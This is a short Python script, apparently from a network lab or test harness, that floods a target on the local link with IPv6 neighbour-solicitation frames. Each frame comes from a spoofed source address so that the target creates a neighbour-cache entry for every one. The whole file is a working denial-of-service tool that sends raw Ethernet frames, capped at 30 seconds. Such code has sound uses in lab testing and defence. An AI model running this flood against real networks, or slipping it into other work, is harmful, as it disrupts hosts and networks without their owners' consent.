#!/usr/bin/env python3
"""A neighbour-solicitation flood from one on-link host posing as many (RFC 4861 §7.2.3 says
the target creates an entry for each solicitor): COUNT solicitations for TARGET, each from a new
address PREFIX::f:N with a source link-layer address option, sent as raw Ethernet frames on IFACE
(bounded: at most 30 s). Prints "ns_flood: sent N".

Usage: ns_flood.py IFACE COUNT PREFIX TARGET   (PREFIX: the /64's first four groups, e.g. 2001:db8:0:0)"""
import socket
import struct
import sys
import time

from labnet import checksum

iface, count, prefix, target = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
mac = bytes.fromhex(open(f"/sys/class/net/{iface}/address").read().strip().replace(":", ""))
tgt = socket.inet_pton(socket.AF_INET6, target)
group = socket.inet_pton(socket.AF_INET6, "ff02::1:ff00:0")[:13] + tgt[13:]  # solicited-node
dst_mac = b"\x33\x33" + group[12:]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
deadline = time.time() + 30
sent = 0
for n in range(count):
    if time.time() > deadline:
        break
    src = socket.inet_pton(socket.AF_INET6, f"{prefix}:0:0:f:{n + 1:x}" if n < 0xFFFF else f"{prefix}:0:f:{n >> 16:x}:{n & 0xFFFF:x}")
    body = struct.pack("!BBHI", 135, 0, 0, 0) + tgt + struct.pack("!BB", 1, 1) + mac
    pseudo = src + group + struct.pack("!IxxxB", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    ip6 = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + src + group
    s.send(dst_mac + mac + b"\x86\xdd" + ip6 + body)
    sent += 1
print(f"ns_flood: sent {sent}", flush=True)
